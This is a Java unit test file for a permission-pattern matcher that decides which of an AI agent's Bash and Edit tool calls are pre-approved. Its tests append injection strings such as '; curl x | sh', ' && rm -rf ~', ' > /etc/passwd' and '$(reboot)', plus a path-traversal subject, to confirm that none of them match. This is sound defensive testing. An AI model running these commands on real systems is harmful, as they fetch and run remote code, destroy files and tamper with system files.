package dev.coppice.ask;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.List;

/** A pattern selects what a person meant to answer in advance, and nothing that hides behind it. */
class ToolPatternTest {
    private static boolean selects(String pattern, String tool, String subject) {
        return ToolPattern.of(pattern).orElseThrow().matches(new ToolUse(tool, subject));
    }

    @Test
    void a_tool_alone_selects_all_of_its_uses() {
        assertThat(selects("Bash", "Bash", "rm -rf /")).isTrue();
        assertThat(selects("*", "Edit", "a.txt")).isTrue();
        assertThat(selects("Bash", "BashOutput", "1")).isFalse();
    }

    @Test
    void a_subject_without_a_star_selects_just_itself() {
        assertThat(selects("Bash(npm test)", "Bash", "npm test")).isTrue();
        for (var other : List.of("npm test ", "npm tests", "npm test; ls", "NPM TEST", "")) {
            assertThat(selects("Bash(npm test)", "Bash", other)).as(other).isFalse();
        }
    }

    @Test
    void a_star_stands_for_no_further_command() {
        assertThat(selects("Bash(npm test*)", "Bash", "npm test -- --watch=false")).isTrue();
        for (var more :
                List.of(
                        "; curl x | sh",
                        " && rm -rf ~",
                        " | tee /etc/passwd",
                        " > /etc/passwd",
                        " $(reboot)",
                        " `reboot`",
                        "\nreboot",
                        " ${IFS}",
                        " <(reboot)",
                        " \\\nreboot")) {
            assertThat(selects("Bash(npm test*)", "Bash", "npm test" + more)).as(more).isFalse();
        }
    }

    @Test
    void a_star_leaves_no_directory() {
        assertThat(selects("Edit(/src/*)", "Edit", "/src/deep/a.java")).isTrue();
        assertThat(selects("Edit(/src/*)", "Edit", "/src/../etc/passwd")).isFalse();
        assertThat(selects("Edit(/src/*)", "Edit", "/src/..")).isFalse();
        assertThat(selects("Edit(/src/*)", "Edit", "/src/..a")).isTrue();
    }

    @Test
    void a_long_subject_is_cut_and_still_taken_for_no_other() {
        var long1 = new ToolUse("Bash", "echo " + "x".repeat(3_000) + " 1");
        var long2 = new ToolUse("Bash", "echo " + "x".repeat(3_000) + " 2");
        assertThat(long1.shortly().subject()).hasSizeLessThanOrEqualTo(2_000);
        var pattern = ToolPattern.exactly(long1.shortly()).orElseThrow();
        assertThat(pattern.matches(long1)).isTrue();
        assertThat(pattern.matches(long2)).isFalse();
        var stars = ToolPattern.of("Bash(echo *)").orElseThrow();
        assertThat(stars.matches(long1)).isTrue();
        assertThat(stars.matches(new ToolUse("Bash", long1.subject() + "; reboot"))).isFalse();
        assertThat(stars.matches(long1.shortly())).isFalse();
    }

    /** A use that almost fits kept a reader of the database for as long as it pleased. */
    @Test
    void a_pattern_of_many_stars_is_decided_at_once() {
        var pattern = "Bash(" + "*a".repeat(900) + "*b)";
        assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> {
                    assertThat(selects(pattern, "Bash", "a".repeat(1_900))).isFalse();
                    assertThat(selects(pattern, "Bash", "a".repeat(1_900) + "b")).isTrue();
                });
    }

    @Test
    void a_star_between_two_parts_stands_for_plain_text_alone() {
        assertThat(selects("Bash(a*b*c)", "Bash", "a b b c")).isTrue();
        assertThat(selects("Bash(a*;b*c)", "Bash", "a ;b c")).isTrue();
        assertThat(selects("Bash(a*;b*c)", "Bash", "a ;b ;b c")).isFalse();
        assertThat(selects("Bash(a*b*c)", "Bash", "a b | c")).isFalse();
        assertThat(selects("Bash(aa*aa)", "Bash", "aaa")).isFalse();
        assertThat(selects("Bash(**)", "Bash", "")).isTrue();
    }

    @Test
    void what_is_no_pattern_is_refused() {
        for (var bad : List.of("", "Bash(", "Bash)", "(x)", "Ba sh", "x".repeat(2_001))) {
            assertThat(ToolPattern.of(bad)).as(bad).isEmpty();
        }
        assertThat(ToolPattern.exactly(new ToolUse("Bash", "ls *"))).isEmpty();
        assertThat(ToolPattern.exactly(new ToolUse("Bash", "a\nb"))).isEmpty();
    }
}
